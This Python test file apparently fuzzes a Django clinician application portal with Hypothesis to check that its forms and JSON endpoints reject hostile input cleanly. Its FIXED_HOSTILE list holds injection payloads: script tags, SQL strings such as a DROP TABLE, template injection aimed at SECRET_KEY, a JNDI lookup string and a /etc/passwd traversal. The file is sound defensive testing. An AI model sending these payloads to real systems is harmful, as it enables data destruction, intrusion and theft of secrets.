"""Hostile input against every form step and every JSON endpoint, as a signed-in user (issue 10, point 1).

Hypothesis generates very long strings, Unicode and control characters (NUL included), markup and script,
SQL-like text, wrong types, missing, extra and duplicated fields. Every response must be a handled one
(never a 5xx); forms answer with their USWDS error summary and APIs with a 400 (or 404) JSON error body; a
response that did not save leaves the stored rows exactly as they were, and anything that was saved passes
the model's own validation and the NPI/TIN rules. Oversized bodies, too many fields and malformed JSON are
sent as fixed cases. The number of inputs tried is printed in the terminal summary
(tests/security/conftest.py).

Bounded: ``max_examples`` per target keeps the whole file to well under two minutes on two cores.
"""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from django.forms.models import model_to_dict
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from eligibility.validators import is_valid_npi, is_valid_tin
from tests.factories import (
    ApplicationWindowFactory,
    clinician_with_access,
    complete_individual_pi_draft,
)

from .conftest import count_input

pytestmark = pytest.mark.django_db(transaction=False)

EXAMPLES = 40
HYPOTHESIS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,  # the same inputs on every CI run: a failure is reproducible from the log
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# --- strategies --------------------------------------------------------------------------------------------

FIXED_HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\t\x0b\x0c\x1b[31m",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "'; DROP TABLE applications_application; --",
    "1; SELECT pg_sleep(10)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "\u202e\u200b\ufeff",
    "Z̸̢͎͌a̷͙͝l̶̛̼g̴̰͑o̶̩͂",
    "😀" * 50,
    "١٢٣٤٥٦٧٨٩٣",  # Arabic-Indic digits: \d matches them, is_valid_npi must not
    "１２３４５６７８９３",  # full-width digits
    "123450093",
    "1234567893",
    "-1",
    "0",
    "1e309",
    "NaN",
    "Infinity",
    "true",
    "null",
    "[]",
    "{}",
    "9" * 400,
    "A" * 5000,
    "x" * 100_000,
]

hostile_text = st.one_of(
    st.sampled_from(FIXED_HOSTILE),
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),  # control characters
    st.integers().map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.text(alphabet="0123456789", min_size=8, max_size=11),
)


def hostile_form_data(field_names: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    """Some of the real fields (others missing), each one value or several (duplicated), plus extras."""
    names = st.sampled_from(field_names) if field_names else st.just("x")
    value = st.one_of(hostile_text, st.lists(hostile_text, min_size=2, max_size=3))
    return st.tuples(
        st.dictionaries(names, value, max_size=max(1, len(field_names))),
        st.dictionaries(st.text(min_size=1, max_size=20), hostile_text, max_size=2),
    ).map(lambda pair: {**pair[1], **pair[0]})


json_values = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        hostile_text,
    ),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)

# --- helpers -----------------------------------------------------------------------------------------------

FIELD_NAME = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"')


def field_names(html: str) -> list[str]:
    names = sorted(set(FIELD_NAME.findall(html)) - {"csrfmiddlewaretoken"})
    return names


def assert_handled(response, where: str) -> None:
    assert response.status_code < 500, f"{where} answered {response.status_code}"


def assert_json_error(response, where: str, allowed: tuple[int, ...] = (400, 404)) -> None:
    assert response.status_code in allowed, f"{where} answered {response.status_code}"
    assert response["Content-Type"].startswith("application/json"), where
    body = json.loads(response.content)
    assert body["error"]["status"] == response.status_code, where
    assert body["error"]["message"], where


def has_error_summary(response) -> bool:
    return b"portal-error-summary" in response.content or b"usa-alert--error" in response.content


def snapshot(application) -> dict[str, Any]:
    application.refresh_from_db()
    data = model_to_dict(application)
    data["additional_access"] = (
        sorted(application.additional_access_emails.values_list("email", flat=True))
        if hasattr(application, "additional_access_emails")
        else None
    )
    return data


def assert_stored_values_valid(application) -> None:
    application.refresh_from_db()
    # The status is django-fsm's protected field (changed only by transitions): not re-assigned by clean.
    application.full_clean(exclude=["status"], validate_unique=False, validate_constraints=False)
    if application.npi:
        assert is_valid_npi(application.npi), application.npi
    if application.tin:
        assert is_valid_tin(application.tin), application.tin
    for name, value in model_to_dict(application).items():
        if isinstance(value, str):
            assert "\x00" not in value, f"NUL stored in {name}"


# --- fixtures ----------------------------------------------------------------------------------------------


@pytest.fixture
def clinician():
    ApplicationWindowFactory(performance_year=2026)
    user, clinician, practice = clinician_with_access()
    return user


@pytest.fixture
def signed_in(clinician):
    client = Client()
    client.force_login(clinician)
    return client


@pytest.fixture
def draft(clinician):
    return complete_individual_pi_draft(user=clinician)


def _restore(application, saved: dict[str, Any]) -> None:
    """Put the complete draft back between examples, so every example reaches its step (test-only write)."""
    from applications.models import Application

    fields = {
        field.name: saved[field.name]
        for field in Application._meta.concrete_fields
        if field.name in saved and field.name not in ("id", "status", "reference") and not field.is_relation
    }
    Application.objects.filter(pk=application.pk).update(**fields)


# --- wizard steps ------------------------------------------------------------------------------------------

STEP_SLUGS = [
    "application-type",
    "submission-information",
    "submitter-details",
    "additional-access",
    "reason",
    "attestation",
    "review",
]


@pytest.mark.parametrize("step", STEP_SLUGS)
def test_wizard_step_survives_hostile_posts(signed_in, draft, step):
    url = reverse("applications:step", kwargs={"reference": draft.reference, "step": step})
    page = signed_in.get(url)
    assert page.status_code == 200, f"{url} answered {page.status_code} to GET"
    names = field_names(page.content.decode())
    original = snapshot(draft)

    @HYPOTHESIS
    @given(
        data=hostile_form_data(names), action=st.sampled_from(["continue", "save", "close", "back", "", "x"])
    )
    def post(data, action):
        _restore(draft, original)
        before = snapshot(draft)
        count_input(f"wizard {step}")
        response = signed_in.post(url, {**data, "action": action})
        assert_handled(response, f"POST {url}")
        if response.status_code in (200, 400):
            # Shown again: with the error summary, and nothing stored.
            assert has_error_summary(response) or step == "review", f"{url} re-rendered without errors"
            after = snapshot(draft)
            if step != "review":
                assert after == before, f"{url} stored input it refused"
        assert_stored_values_valid(draft)

    post()


def test_new_application_form_survives_hostile_posts(signed_in, clinician):
    from applications.models import Application

    url = reverse("applications:new")
    names = field_names(signed_in.get(url).content.decode())

    @HYPOTHESIS
    @given(data=hostile_form_data(names))
    def post(data):
        count_input("wizard new")
        before = Application.objects.count()
        response = signed_in.post(url, data)
        assert_handled(response, f"POST {url}")
        if response.status_code != 302:
            assert has_error_summary(response)
            assert Application.objects.count() == before

    post()


@pytest.mark.parametrize("step", STEP_SLUGS[:-1])
def test_autosave_survives_hostile_posts(signed_in, draft, step):
    url = reverse("applications:autosave", kwargs={"reference": draft.reference, "step": step})
    page = signed_in.get(reverse("applications:step", kwargs={"reference": draft.reference, "step": step}))
    names = field_names(page.content.decode())
    original = snapshot(draft)

    @HYPOTHESIS
    @given(data=hostile_form_data(names))
    def post(data):
        _restore(draft, original)
        before = snapshot(draft)
        count_input(f"autosave {step}")
        response = signed_in.post(url, data, HTTP_ACCEPT="application/json")
        assert_handled(response, f"POST {url}")
        assert response["Content-Type"].startswith("application/json")
        if response.status_code != 200:
            assert_json_error(response, f"POST {url}", allowed=(400,))
            assert snapshot(draft) == before, f"{url} stored input it refused"
        else:
            assert json.loads(response.content)["saved"] is True
        assert_stored_values_valid(draft)

    post()


# --- participation status, access requests, weights calculator ------------------------------------------


def test_participation_status_survives_hostile_posts(signed_in):
    url = reverse("participation_status")

    @HYPOTHESIS
    @given(data=hostile_form_data(["identifier", "year"]))
    def post(data):
        count_input("participation status")
        response = signed_in.post(url, data)
        assert response.status_code == 200
        if not re.search(rb'data-testid="(individual|group)-', response.content):
            assert has_error_summary(response) or b"usa-alert" in response.content

    post()


@pytest.mark.parametrize("kind", ["npi", "practice", "intermediary"])
def test_access_request_forms_survive_hostile_posts(signed_in, kind):
    from accounts.models import AccessRequest

    url = reverse("accounts:access_request_create", kwargs={"kind": kind})
    names = field_names(signed_in.get(url).content.decode())

    @HYPOTHESIS
    @given(data=hostile_form_data(names))
    def post(data):
        count_input(f"access request {kind}")
        before = set(AccessRequest.objects.values_list("pk", flat=True))
        response = signed_in.post(url, data)
        assert_handled(response, f"POST {url}")
        created = AccessRequest.objects.exclude(pk__in=before)
        if response.status_code != 302:
            assert has_error_summary(response)
            assert not created.exists(), f"{url} stored a request it refused"
        for request_row in created:
            request_row.full_clean(validate_unique=False, validate_constraints=False)
            assert not request_row.clinician_id or is_valid_npi(request_row.clinician.npi)
            assert not request_row.practice_id or is_valid_tin(request_row.practice.tin)

    post()


def test_weights_calculator_survives_hostile_queries(signed_in):
    url = reverse("scoring:weights_calculator")
    names = [
        "year",
        "track",
        "reweighted",
        *[f"score_{c}" for c in ("quality", "cost", "improvement_activities", "promoting_interoperability")],
    ]

    @HYPOTHESIS
    @given(data=hostile_form_data(names), with_year=st.booleans())
    def get(data, with_year):
        count_input("weights calculator")
        if with_year:
            data.setdefault("year", "2026")
        response = signed_in.get(url + "?" + urlencode(data, doseq=True))
        assert response.status_code == 200
        if "year" in data and b'data-testid="final-score"' not in response.content:
            assert b"usa-alert--error" in response.content or b"Enter a score" in response.content

    get()


# --- JSON endpoints ----------------------------------------------------------------------------------------

path_segment = st.one_of(hostile_text, st.text(alphabet="0123456789", min_size=9, max_size=10)).filter(
    lambda s: "/" not in s and s not in ("", ".", "..")
)


@pytest.mark.parametrize("kind", ["npi", "tin"])
def test_eligibility_api_survives_hostile_identifiers(signed_in, kind):
    @HYPOTHESIS
    @given(identifier=path_segment, year=st.one_of(st.none(), hostile_text))
    def get(identifier, year):
        count_input(f"api eligibility {kind}")
        url = f"/api/eligibility/{kind}/{quote(identifier, safe='')}"
        if year is not None:
            url += "?" + urlencode({"year": year})
        response = signed_in.get(url)
        assert_handled(response, url)
        if response.status_code != 200:
            assert_json_error(response, url)

    get()


def test_preview_api_survives_hostile_json(signed_in):
    url = reverse("scoring:preview_api")

    @HYPOTHESIS
    @given(
        body=st.one_of(
            json_values,
            st.fixed_dictionaries(
                {"year": json_values, "track": json_values},
                optional={"reweighted": json_values, "scores": json_values},
            ),
        )
    )
    def post(body):
        count_input("api reweighting preview")
        response = signed_in.post(url, json.dumps(body), content_type="application/json")
        assert_handled(response, url)
        if response.status_code != 200:
            assert_json_error(response, url, allowed=(400,))

    post()


MALFORMED_BODIES = [
    b"",
    b"{",
    b'{"year": 2026, "track": ',
    b"\xff\xfe\x00",
    b"[1, 2, 3]",
    b'"year"',
    b"NaN",
    b'{"year": 1e999, "track": "traditional"}',
    b'{"year": 2026, "year": "2026", "track": "traditional"}',  # duplicated key
    b'{"year": "2026", "track": "traditional", "reweighted": [null]}',
    b'{"year": true, "track": ["traditional"]}',
    b'{"year": 2026, "track": "traditional", "scores": {"quality": "NaN"}}',
    b'{"year": 2026, "track": "traditional", "scores": {"quality": 1e400}}',
    b"[" * 10_000 + b"]" * 10_000,  # deep nesting
    b'{"a": "' + b"x" * 5_000 + b'"}',  # over the API's 4 KB limit
]


@pytest.mark.parametrize("body", MALFORMED_BODIES, ids=range(len(MALFORMED_BODIES)))
def test_preview_api_rejects_malformed_json(signed_in, body):
    count_input("api reweighting preview (malformed)")
    response = signed_in.post(reverse("scoring:preview_api"), body, content_type="application/json")
    assert_handled(response, "preview")
    if response.status_code != 200:
        assert_json_error(response, "preview", allowed=(400,))


# --- oversized and over-many fields (Django's request limits answer 400, never 500) -----------------------


def test_oversized_body_is_refused_cleanly(signed_in, draft):
    count_input("oversized body")
    before = snapshot(draft)
    url = reverse("applications:step", kwargs={"reference": draft.reference, "step": "attestation"})
    response = signed_in.post(url, {"description": "x" * 3_000_000, "action": "save"})
    assert response.status_code == 400
    assert snapshot(draft) == before


def test_too_many_fields_are_refused_cleanly(signed_in, draft):
    count_input("too many fields")
    before = snapshot(draft)
    url = reverse("applications:autosave", kwargs={"reference": draft.reference, "step": "reason"})
    response = signed_in.post(url, {f"f{i}": "1" for i in range(1_500)})
    assert response.status_code == 400
    assert snapshot(draft) == before


def test_an_anonymous_post_is_not_processed():
    count_input("anonymous post")
    response = Client().post(reverse("scoring:preview_api"), "{}", content_type="application/json")
    assert_json_error(response, "preview anonymous", allowed=(401,))


def test_the_inputs_really_reach_the_forms(signed_in, draft):
    """Guard against a silently vacuous suite: a known-bad value gets a field error, not a redirect."""
    url = reverse("applications:step", kwargs={"reference": draft.reference, "step": "application-type"})
    response = signed_in.post(
        url, {"participation_level": "individual", "npi": "1234567890", "action": "save"}
    )
    assert response.status_code == 200
    assert has_error_summary(response)
